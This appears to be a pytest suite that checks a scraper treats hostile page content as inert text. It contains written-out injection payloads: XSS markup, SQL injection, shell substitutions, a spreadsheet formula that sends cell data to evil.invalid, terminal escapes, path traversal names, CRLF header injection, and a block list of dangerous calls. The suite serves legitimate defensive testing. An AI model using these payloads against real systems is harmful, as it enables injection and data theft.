"""What a site writes stays text: in the database, on the terminal, in files, in requests."""

import ast
import csv
import io
import json
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pytest
from crawl_world import article, feed, page
from hostile_ground import Scenario, ground

from pipeline.errors import ArchiveError
from scraper.cli import main
from scraper.cli.articles import write_file
from scraper.config import load
from scraper.crawl import settings_for
from storage.archive import read_member

pytestmark = pytest.mark.slow
ROOT = Path(__file__).parents[2]

MARKUP = '<img src=x onerror=alert(1)> "><script>alert(2)</script>'
TEMPLATES = "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} [[7*7]]"
FORMATS = "%s %n %(x)s {0} {0.__class__} $(touch pwned) `touch pwned` ${HOME} ~root"
SQL = "'; DROP TABLE urls; -- \" OR 1=1 /* \\' */"
FORMULA = '=HYPERLINK("https://evil.invalid/?"&A1,"Read")'
STEERING = "\x1b]0;owned\x07\x1b[2Jgone \x9b31mred \u202eevil\u202c\u2066x\u2069"
FORGED = "2024-05-29 10:15:00Z forged"


def escaped(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def told(title, mark, more="", body=""):
    """Return an article that says a hostile text in its title, author, section and body."""
    words = escaped(title)
    quoted = words.replace('"', "&quot;")
    text = "".join(
        f"<p>Paragraph {n} of {mark}: the committee of Hask met on {words} and heard witness {n},"
        f" then put its decision off until the bridge is open.</p>"
        for n in range(4)
    )
    return page(
        f'<html lang=en><head><title>{words}</title><meta name="author" content="{quoted}">'
        f'<meta property="article:section" content="{quoted}"></head><body><article>'
        f"<h1>{words}</h1>{text}{body}</article></body></html>",
        **({"headers": more} if more else {}),
    )


def listed(*items):
    """Return a feed of links and titles."""
    rows = "".join(
        f"<item><title>{escaped(title)}</title><link>{escaped(link)}</link></item>"
        for link, title in items
    )
    return page(
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>{rows}</channel></rss>',
        "application/rss+xml",
    )


BAD_BODY = """
<script>alert(3)</script><p onclick="alert(4)">Clicked by the mill.</p>
<a href="javascript:alert(5)">first</a> <a href=" jav&#x09;ascript:alert(6)">second</a>
<a href="data:text/html,<script>alert(7)</script>">third</a><iframe src="https://evil.invalid/">
</iframe><svg onload="alert(8)"><script>alert(9)</script></svg><math><mi xlink:href="javascript:x">
</mi></math><style>body{background:url(https://evil.invalid/)}</style><form action="https://evil">
<input name=q></form><object data="x.swf"></object><base href="https://evil.invalid/">
<p>The last words of the mill <b style="position:fixed" onmouseover="alert(10)">are</b> these.</p>
"""


def climbing(url):
    names = (
        "/../../../../../../pwned", "/..%2f..%2f..%2fpwned", "/a%00b", "/....//....//pwned",
        "/%2e%2e/%2e%2e/pwned", "/c:%5cpwned", "/pwned.html%0a",
    )  # fmt: skip
    document = page(
        b"%PDF-1.4 of the valley",
        "application/pdf",
        headers=(("Content-Disposition", 'attachment; filename="../../../pwned.pdf"'),),
    )
    return {
        "/feed.xml": feed(*names, "/file"),
        "/file": document,
        "*": article("Climbing", mark="climbing"),
    }


def split(url):
    bad = [f"{url}/a\r\nX-Evil: 1", f"{url}/b%0d%0aX-Evil:%201", f"{url}/c\u0085X-Evil: 1",
           f"{url}/d\u2028X-Evil: 1", f"{url}/e\nGET /evil HTTP/1.1"]  # fmt: skip
    answer = article("Split", mark="split")
    tagged = page(
        answer.body.decode(), headers=(("ETag", '"a%0d%0aX-Evil: 1"'), ("Referrer-Policy", "x\ty"))
    )
    return {"/feed.xml": listed(*[(link, "Split") for link in bad]), "*": tagged}


def alike(url):
    twin = "https://\u0430\u0440\u0440le.invalid/a"  # Cyrillic letters but for the last two
    return {"/feed.xml": feed("/fine", twin), "/fine": article("Fine", mark="alike")}


SCENARIOS = (
    Scenario("injection/xss-titles", {
        "/feed.xml": listed(("/a?x=<script>alert(1)</script>", MARKUP)),
        "/a": told(MARKUP, "markup"),
    }),
    Scenario("injection/xss-body", {
        "/feed.xml": feed("/a"), "/a": told("A Mill", "mill", body=BAD_BODY),
    }),
    Scenario("injection/templates", {
        "/feed.xml": listed(("/a?q={{7*7}}", TEMPLATES)), "/a": told(TEMPLATES, "templates"),
    }),
    Scenario("injection/csv-formulas", {
        "/feed.xml": listed(("/a", FORMULA)), "/a": told(FORMULA, "formulas"),
    }),
    Scenario("injection/terminal-escapes", {
        "/feed.xml": feed("/a", "/gone"), "/a": told(STEERING, "steering"),
        "/gone": page("", status=401, headers=(
            ("WWW-Authenticate", f"Basic realm=\"{STEERING.encode().decode('latin-1')}\""),)),
    }),
    Scenario("injection/log-lines", {
        "/feed.xml": listed((f"/a?q=%0a{FORGED.replace(' ', '%20')}", f"Two\n{FORGED}\nlines")),
        "/a": page("", status=500, headers=(("X-A", "b"),)),
    }),
    Scenario("injection/format-strings", {
        "/feed.xml": listed(("/a?q=%25s{0}$(touch%20pwned)", FORMATS)),
        "/a": told(FORMATS, "formats"),
    }),
    Scenario("injection/sql-strings", {
        "/feed.xml": listed(("/a?q=';DROP%20TABLE%20urls;--", SQL)), "/a": told(SQL, "sql"),
    }),
    Scenario("injection/path-traversal", climbing),
    Scenario("injection/header-injection", split),
    Scenario("injection/unicode-names", alike),
    Scenario("injection/scrapy-headers", {
        "/feed.xml": page(feed("/a").body, "application/rss+xml",
                          headers=(("Referrer-Policy", "os.getcwd"),)),
        "/a": told("A Policy", "policy", more=(("Referrer-Policy", "scraper.cli.main"),)),
    }),
)  # fmt: skip


@pytest.fixture(scope="module")
def root(tmp_path_factory):
    return tmp_path_factory.mktemp("injection")


@pytest.fixture(scope="module")
def results(root):
    return ground(root, SCENARIOS)


@pytest.fixture(scope="module")
def made(results):
    return next(iter(results.values())).world


def khabar(made, *args):
    """Run a command in this process; return what it says."""
    told = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", newline="", write_through=True)
    with redirect_stdout(told), redirect_stderr(told), pytest.raises(SystemExit):
        main(["--config", str(made.config), *args])
    return told.buffer.getvalue().decode()


def one(result):
    """Return the one article of a scenario."""
    [found] = result.articles().values()
    return found


def steering(text):
    return {
        char for char in text if (ord(char) < 32 and char != "\n") or 127 <= ord(char) < 160
    } | (set(text) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028"))


@pytest.mark.hostile("injection/xss-titles")
def test_markup_in_a_title_is_text(results):
    found = one(results["injection/xss-titles"])
    assert "alert(2)" in found.title
    assert "<script" not in found.html
    assert "<img" not in found.html
    assert found.body.count("alert(2)") == 4


@pytest.mark.hostile("injection/xss-body")
def test_no_script_is_left_in_a_body(results):
    found = one(results["injection/xss-body"])
    assert "The last words of the mill" in found.body
    low = found.html.lower()
    for bad in ("<script", "alert(", "javascript:", "data:", "<iframe", "<svg", "<style", "style=",
                "onclick", "onload", "<form", "<input", "<object", "<base", "<math"):  # fmt: skip
        assert bad not in low


@pytest.mark.hostile("injection/templates")
def test_templates_are_not_filled_in(results):
    found = one(results["injection/templates"])
    assert "{{7*7}} ${7*7} #{7*7}" in found.title
    assert "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>" in found.body
    assert "49" not in found.title + found.body + found.html


@pytest.mark.hostile("injection/format-strings")
def test_formats_and_commands_of_a_shell_are_text(results, root):
    result = results["injection/format-strings"]
    found = one(result)
    assert "%s %n %(x)s {0} {0.__class__} $(touch pwned)" in found.body
    assert "%s" in found.title
    assert "%25s{0}" in result.why(found.url.removeprefix(result.url))
    assert not [path for path in (ROOT / "pwned", root / "pwned") if path.exists()]


@pytest.mark.hostile("injection/csv-formulas")
def test_no_cell_of_an_export_is_a_formula(results):
    result = results["injection/csv-formulas"]
    text = khabar(result.world, "articles", "export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    [row] = [row for row in rows if row["source"] == result.source]
    assert row["title"] == f"'{FORMULA}"
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.lstrip(" \u200b").startswith(("=", "+", "-", "@"))]
    plain = khabar(result.world, "articles", "export", "--source", result.source)
    assert json.loads(plain)["title"] == FORMULA


COMMANDS = (
    ("articles", "find"), ("articles", "export", "--format", "csv"), ("articles", "export"),
    ("logs", "--limit", "0"), ("urls", "--limit", "0"), ("runs",), ("status",),
)  # fmt: skip


@pytest.mark.hostile("injection/terminal-escapes", "injection/bidi")
def test_nothing_that_steers_a_terminal_is_printed_or_logged(results, made):
    result = results["injection/terminal-escapes"]
    assert "owned" in one(result).title
    assert "realm" in result.detail("/gone")
    shown = "".join(khabar(made, *command) for command in COMMANDS)
    shown += khabar(made, "articles", "show", str(one(result).id)) + result.told
    assert "\\u202eevil" in shown
    assert steering(shown.replace("\r\n", "\n")) == set()
    for file in (made.root / "var/logs").glob("*"):
        assert steering(file.read_text()) == set()


@pytest.mark.hostile("injection/log-lines")
def test_no_line_break_makes_a_line_of_the_log(results, made):
    result = results["injection/log-lines"]
    assert result.visits()
    shown = khabar(made, "logs", "--limit", "0")
    assert "forged" in shown
    assert not [line for line in shown.splitlines() if line.startswith(FORGED)]


@pytest.mark.hostile("injection/sql-strings")
def test_sql_is_text_in_pages_and_in_searches(results, made):
    result = results["injection/sql-strings"]
    assert 'DROP TABLE urls; -- " OR 1=1' in one(result).title
    found = khabar(made, "articles", "find", "'; DROP TABLE urls; --", "--json")
    assert [json.loads(line)["source"] for line in found.splitlines()] == [result.source]
    for words in (
        ("logs", "--grep"),
        ("urls", "--url"),
        ("articles", "find", "--cited"),
        ("articles", "find", "--url"),
        ("runs", "--source"),
        ("status", "--source"),
    ):
        assert khabar(made, *words, "x' OR '1'='1", "--json") == ""  # fmt: skip
    assert made.rows("SELECT count(*) AS n FROM urls")[0].n > 10


@pytest.mark.hostile("injection/search-syntax")
def test_what_is_searched_for_is_not_an_expression(made):
    def find(*words):
        text = khabar(made, "articles", "find", "--limit", "0", "--json", "--", *words)
        return {json.loads(line)["source"] for line in text.splitlines()}

    everything = find("committee")
    assert len(everything) > 5
    assert find("co%ee") == find("c_mmittee") == find("committee*") == find("commit[t]ee") == set()
    assert find("committee", "OR", "nosuchword") == set()
    assert find("-committee") == find("NEAR(committee)") == find('"committee') == set()
    assert find("%s") == {"injection-format-strings"}
    assert find("\\'") == {"injection-sql-strings"}


@pytest.mark.hostile("injection/path-traversal")
def test_no_name_leads_out_of_the_archive(results, root):
    result = results["injection/path-traversal"]
    assert len(result.visits()) >= 6
    files = {path.relative_to(root).as_posix() for path in root.rglob("*") if path.is_file()}
    assert not [name for name in files if "pwned" in name]
    assert {name.partition("/")[0] for name in files} == {"config", "var"}
    archived = [name for name in files if name.startswith("var/archive/")]
    assert archived
    assert all(name.endswith((".warc.gz", ".warc.gz.open")) for name in archived)
    assert not [path for path in root.parents if (path / "pwned").exists()]


@pytest.mark.hostile("injection/archive-names")
def test_no_row_and_no_link_leads_the_archive_or_an_export_elsewhere(tmp_path):
    root, secret = tmp_path / "archive", tmp_path / "secret"
    root.mkdir()
    secret.write_bytes(b"secret")
    (root / "link.warc.gz").symlink_to(secret)
    for name in ("../secret", str(secret), "link.warc.gz", "a/../../secret"):
        with pytest.raises(ArchiveError, match="outside the archive"):
            read_member(root, name, 0, 6)
    target = tmp_path / "out.jsonl"
    target.symlink_to(secret)
    write_file(["{}\n"], target, heading=False)
    assert target.read_text() == "{}\n"
    assert secret.read_bytes() == b"secret"


@pytest.mark.hostile("injection/archive-names")
def test_the_name_of_an_imported_file_is_text(made, tmp_path):
    file = tmp_path / "known \x1b[2J\u202e.txt"
    file.write_text("https://a.invalid/x\n")
    told = khabar(made, "import", str(file))
    assert "\\x1b[2J\\u202e.txt" in told
    assert steering(told) == set()


@pytest.mark.hostile("injection/header-injection")
def test_no_link_and_no_etag_becomes_a_header(results):
    result = results["injection/header-injection"]
    assert len(result.seen) > 4
    assert not [one for one in result.seen if "x-evil" in one.headers]
    assert {one.method for one in result.seen} == {"GET"}
    assert not [one for one in result.seen if one.path.startswith("/evil")]
    assert not [one for one in result.seen if set(one.path) & set("\r\n\x85\u2028 ")]


@pytest.mark.hostile("injection/unicode-names")
def test_a_look_alike_host_is_told_apart(results, made):
    result = results["injection/unicode-names"]
    told = khabar(made, "runs", str(result.runs[0].id))
    assert "other_host" in told
    assert "xn--" in told


@pytest.mark.hostile("injection/scrapy-headers")
def test_a_policy_that_names_python_is_not_called(results):
    result = results["injection/scrapy-headers"]
    assert one(result).title == "A Policy"
    assert not [seen for seen in result.seen if "referer" in seen.headers]
    assert "Policy" not in result.told


@pytest.mark.hostile("injection/remote-control")
def test_nothing_listens_that_takes_orders(made):
    config = load(made.config)
    settings = settings_for(next(iter(config.sources.values())), config.app)
    for name in ("TELNETCONSOLE_ENABLED", "REMOTE_CONTROL_ENABLED", "HTTPPROXY_ENABLED"):
        assert settings.getbool(name) is False


CODE = {
    "pickle", "cPickle", "dill", "cloudpickle", "marshal", "shelve", "yaml", "jsonpickle", "joblib",
}  # fmt: skip
CALLS = {"eval", "exec", "compile", "__import__", "os.system", "os.popen", "yaml.load"}


@pytest.mark.hostile("injection/unpickled")
def test_nothing_that_is_read_is_code():
    guilty = []
    for package in ("pipeline", "storage", "scraper"):
        for path in (ROOT / package).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_bytes())):
                names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
                names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
                bad = {name for name in names if name.partition(".")[0] in CODE}
                if isinstance(node, ast.Call):
                    bad |= {ast.unparse(node.func)} & CALLS
                    bad |= {"shell=True" for word in node.keywords if word.arg == "shell"}
                guilty += [f"{path.relative_to(ROOT)} {one}" for one in bad]
    # The Python that an operator names in a source file is the operator's own.
    assert set(guilty) == {"scraper/python.py exec", "scraper/python.py compile"}
